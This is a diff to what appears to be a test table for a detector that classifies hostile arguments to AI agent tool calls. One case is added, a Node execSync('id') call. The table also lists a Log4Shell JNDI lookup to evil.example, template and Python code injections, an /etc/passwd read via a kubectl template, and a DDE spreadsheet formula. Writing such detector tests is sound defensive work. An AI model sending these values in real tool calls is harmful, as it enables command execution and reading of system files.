@@ -40,6 +40,7 @@ def rules(body: JsonObject, arguments: JsonObject) -> set[str]:
         ("log_line", {"message": "${jndi:ldap://evil.example/a}"}, "template-reaches"),
         ("run_playbook", {"extra_vars": {"x": "{{ lookup('pipe','id') }}"}}, "template-reaches"),
         ("rename", {"address": "__import__('os').system('x')"}, "expression-code"),
+        ("browser_run_code", {"code": "async (page) => require('child_process').execSync('id')"}, "expression-code"),
         ("kubectl_get", {"output": "go-template-file=/etc/passwd"}, "path-system"),
         ("set_cell", {"cell": "A1", "value": "=cmd|'/c calc'!A1"}, "content-reaches"),
         ("get_session", {"region": "evil.example/#"}, "word-query"),
